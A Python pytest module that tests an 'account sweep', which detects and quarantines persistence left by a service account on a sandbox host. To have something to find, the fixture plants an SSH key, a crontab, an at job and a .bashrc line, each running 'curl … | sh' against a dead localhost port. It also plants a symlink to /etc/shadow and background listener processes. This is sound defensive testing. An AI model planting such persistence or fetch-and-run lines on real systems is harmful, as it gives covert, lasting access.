"""The account sweep (acct-01; issue #27, item 1) on the session sandbox, as an operator would run it
after an incident (``litellm_account_sweep: quarantine`` given with ``--data``: the sandbox's account
is an adopted one, for which the sweep is off by default).

One round plants, as the service account ``litellm``, each thing it could leave running or scheduled
outside the managed services: a key in ``~/.ssh/authorized_keys``, a crontab, an ``at`` job, a line in
``~/.bashrc``, a link ``~/.bash_profile`` -> /etc/shadow, a ``nohup``ed background process and a listener.
The image has no cron or at: their spool files are planted directly (as root, then given to the
account, as ``crontab`` and ``at`` would leave them). A declared key (``authorized_keys2``) and a
process of root are planted too. Then:

- the drift check exits 2 and names each item with its evidence (path, owner, mode, size, sha256,
  mtime; for a process its command line, executable hash, start time and sockets), each hash equal
  to what ``sha256sum`` says on the host;
- the converge stops the processes, closes the listener, moves each file into root's quarantine
  folder (root, 0700) whose manifest lists it; the declared key, root's process, /etc/shadow and the
  proxy are untouched;
- the second converge changes nothing.

Afterwards the host is put back as the other files expect it (the skel ``.bashrc``, no spool
folders, no quarantine folder of this file): with the default setting the sweep does not look.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys

import pytest

from tests.support.hosts import REPO, pyinfra

HOME = "/home/litellm"
QUARANTINE = "/var/lib/litellm-runner/quarantine"
PORT = 2931  # inside the sandbox
DECLARED = f"{HOME}/.ssh/authorized_keys2"
SWEEP = ["--data", "litellm_account_sweep=quarantine", "--data", 'litellm_account_allowed=["~/.ssh/authorized_keys2"]']
OPERATION = "Nothing of litellm's outside the managed services | acct-01"
CANARY = "h-sweep-" + os.urandom(4).hex()
KEY = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHN3ZWVwc3dlZXBzd2VlcHN3ZWVwc3dlZXBzd2VlcHN3 {CANARY}"
CRONTAB = "/var/spool/cron/crontabs/litellm"
ATJOB = "/var/spool/cron/atjobs/a0000101d3f2a1"
FILES = {
    f"{HOME}/.ssh/authorized_keys": "authorized_keys",
    CRONTAB: "crontab",
    ATJOB: "at_job",
    f"{HOME}/.bashrc": "shell_file",
    f"{HOME}/.bash_profile": "shell_file",
}
LISTEN = (
    "import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
    f"s.bind(('127.0.0.1',{PORT}));s.listen();time.sleep(86400)"
)
SLEEP = "import time;time.sleep(86400)"


def as_account(host, command: str):
    return host.ssh(f"cd / && runuser -u litellm -- sh -c {shlex.quote(command)}")


def background(host, code: str, tag: str, user: str = "litellm"):
    """A detached python3 (argv[1] = TAG) started as USER from root's SSH session: ``nohup``, ``setsid``."""
    run = f"runuser -u {user} -- " if user != "root" else ""
    host.ssh(f"cd / && {run}setsid -f nohup python3 -c {shlex.quote(code)} {tag} </dev/null >/dev/null 2>&1")
    return host.wait_for(f"pgrep -f -u {user} -- 'python3 -c .* {tag}$'", timeout=30)


def check(host, tmp_path):
    report = tmp_path / "drift.json"
    proc = subprocess.run(
        [sys.executable, "-m", "litellm_runner.cli.check", "--json", str(report), *SWEEP],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=900,
        env={**os.environ, "LITELLM_SANDBOXES": host.name},
    )
    return proc, json.loads(report.read_text()) if report.exists() else None


def manifests(host) -> list[dict]:
    read = "import glob,json;[print(json.dumps(json.load(open(f)))) for f in sorted(glob.glob('%s/*/manifest.json'))]"
    out = host.out(f"python3 -c {shlex.quote(read % QUARANTINE)}")
    return [json.loads(line) for line in out.splitlines() if line.strip()]


def sha256(host, path: str) -> str:
    return host.out(f"sha256sum {shlex.quote(path)}").split()[0]


@pytest.fixture(scope="module")
def swept(host, converged, tmp_path_factory):
    """Plant every item, run the check and two converges with the sweep on; clean up after the module."""
    folders = set(host.out(f"ls {QUARANTINE} 2>/dev/null || true").split())
    had_spool = host.ssh("test -e /var/spool/cron", check=False).returncode == 0
    try:
        as_account(host, f"mkdir -p -m 0700 ~/.ssh && echo {shlex.quote(KEY)} >> ~/.ssh/authorized_keys")
        as_account(host, f"echo {shlex.quote(KEY.replace(CANARY, 'declared'))} > ~/.ssh/authorized_keys2")
        as_account(host, f"echo 'curl -s http://127.0.0.1:9/{CANARY} | sh' >> ~/.bashrc")
        as_account(host, "ln -s /etc/shadow ~/.bash_profile")
        host.ssh(  # what crontab(1) and at(1) would leave; neither is installed in the image
            "install -d -m 1730 /var/spool/cron/crontabs && install -d -m 1770 /var/spool/cron/atjobs && "
            f"printf '* * * * * curl -s http://127.0.0.1:9/{CANARY} | sh\\n' > {CRONTAB} && "
            f"chown litellm:litellm {CRONTAB} && chmod 0600 {CRONTAB} && "
            f"printf '#!/bin/sh\\ncurl -s http://127.0.0.1:9/{CANARY} | sh\\n' > {ATJOB} && "
            f"chown litellm:litellm {ATJOB} && chmod 0700 {ATJOB}"
        )
        pids = {
            "process": int(background(host, SLEEP, f"{CANARY}-bg")),
            "listener": int(background(host, LISTEN, f"{CANARY}-listen")),
            "root": int(background(host, SLEEP, f"{CANARY}-root", user="root")),
        }
        host.wait_for(f"ss -ltn | grep -q '127.0.0.1:{PORT} '", timeout=30)
        before = {
            "hashes": {path: sha256(host, path) for path in FILES if path != f"{HOME}/.bash_profile"},
            "shadow": host.out("stat -c '%U %a %s %Y' /etc/shadow; sha256sum /etc/shadow"),
            "proxy": host.out("systemctl --user --machine=litellm@.host show -p MainPID --value litellm.service"),
            "declared": sha256(host, DECLARED),
        }
        proc, report = check(host, tmp_path_factory.mktemp("sweep"))
        first = pyinfra([host.name], "-y", *SWEEP)
        second = pyinfra([host.name], "-y", *SWEEP)
        yield {"pids": pids, "before": before, "check": (proc, report), "first": first, "second": second}
    finally:
        host.ssh(f"pkill -f -- '[{CANARY[0]}]{CANARY[1:]}' || true", check=False)  # never this shell itself
        host.ssh(f"install -o litellm -g litellm -m 0644 /etc/skel/.bashrc {HOME}/.bashrc", check=False)
        host.ssh(f"rm -rf {HOME}/.ssh {HOME}/.bash_profile", check=False)
        if not had_spool:
            host.ssh("rm -rf /var/spool/cron", check=False)
        for folder in set(host.out(f"ls {QUARANTINE} 2>/dev/null || true").split()) - folders:
            host.ssh(f"rm -rf {QUARANTINE}/{folder}", check=False)


def sweep_items(report: dict, host) -> list[dict]:
    return [i for i in report["hosts"][host.name]["items"] if i["id"] == OPERATION]


def test_the_check_names_each_item_with_its_evidence(host, swept):
    proc, report = swept["check"]
    assert proc.returncode == 2, proc.stdout[-3000:] + proc.stderr[-3000:]
    items = {i["before"]["item"]: i for i in sweep_items(report, host)}
    for path, kind in FILES.items():
        assert path in items, (path, sorted(items))
        assert items[path]["kind"] == f"sweep {kind}" and items[path]["after"] == "quarantined"
        assert path in proc.stdout  # the human report names it too
    before = swept["before"]
    for path, digest in before["hashes"].items():
        evidence = items[path]["before"]
        assert evidence["sha256"] == digest, path
        assert {"owner", "mode", "size", "mtime"} <= set(evidence), evidence
    assert items[f"{HOME}/.ssh/authorized_keys"]["before"]["owner"] == "litellm:litellm"
    assert items[CRONTAB]["before"]["mode"] == "0600" and items[ATJOB]["before"]["mode"] == "0700"
    link = items[f"{HOME}/.bash_profile"]["before"]
    assert (link["type"], link["target"], link["sha256"]) == ("symlink", "/etc/shadow", None)  # never followed
    python = sha256(host, host.out("readlink -f /usr/bin/python3"))
    for what in ("process", "listener"):
        evidence = items[f"/proc/{swept['pids'][what]}"]["before"]
        assert evidence["cmdline"][-1] == f"{CANARY}-{'bg' if what == 'process' else 'listen'}", evidence
        assert evidence["exe_sha256"] == python and evidence["started"].endswith("Z")
    assert items[f"/proc/{swept['pids']['listener']}"]["before"]["sockets"] == [f"127.0.0.1:{PORT}"]
    listener = items[f"tcp 127.0.0.1:{PORT}"]
    assert listener["kind"] == "sweep listener" and listener["before"]["pids"] == [swept["pids"]["listener"]]
    # declared, root's own and the managed units' are not items
    assert DECLARED not in items and f"/proc/{swept['pids']['root']}" not in items
    assert not [i for i in items.values() if "litellm.service" in str(i["before"].get("cgroup", ""))]
    assert len(items) == len(FILES) + 3, sorted(items)


def test_the_converge_quarantines_and_stops_each_item(host, swept):
    first, before = swept["first"], swept["before"]
    assert first.returncode == 0, first.stderr[-3000:]
    assert OPERATION in first.changed()
    moved = {
        item["path"]: item for doc in manifests(host) if doc.get("source") == "account sweep" for item in doc["items"]
    }
    for path in FILES:
        assert path in moved and moved[path]["moved_to"].startswith(QUARANTINE + "/"), (path, sorted(moved))
        assert host.ssh(f"test -e {path} || test -L {path}", check=False).returncode == 1, path
        assert host.out(f"stat -c '%U %a' {moved[path]['moved_to'].rsplit('/', 1)[0]}") == "root 700"
    for path, digest in before["hashes"].items():
        assert moved[path]["sha256"] == digest == sha256(host, moved[path]["moved_to"]), path
    assert host.out(f"readlink {moved[f'{HOME}/.bash_profile']['moved_to']}") == "/etc/shadow"
    for what in ("process", "listener"):
        entry = moved[f"/proc/{swept['pids'][what]}"]
        assert entry["stopped"] == "SIGTERM" and entry["time"].endswith("Z"), entry
        assert host.ssh(f"test -e /proc/{swept['pids'][what]}", check=False).returncode == 1
    assert host.ssh(f"ss -ltn | grep -q '127.0.0.1:{PORT} '", check=False).returncode == 1
    assert host.out(f"stat -c %U {QUARANTINE}") == "root" and host.out(f"stat -c %a {QUARANTINE}") == "700"


def test_nothing_outside_the_accounts_reach_is_touched(host, swept):
    before = swept["before"]
    assert host.out("stat -c '%U %a %s %Y' /etc/shadow; sha256sum /etc/shadow") == before["shadow"]
    assert host.ssh(f"test -e /proc/{swept['pids']['root']}", check=False).returncode == 0  # root's process runs
    assert sha256(host, DECLARED) == before["declared"]  # the declared key stays
    proxy = host.out("systemctl --user --machine=litellm@.host show -p MainPID --value litellm.service")
    assert proxy == before["proxy"] != "0"  # the managed proxy was not stopped


def test_the_second_converge_changes_nothing(swept):
    second = swept["second"]
    assert second.returncode == 0, second.stderr[-3000:]
    assert second.changed() == [], second.changed()
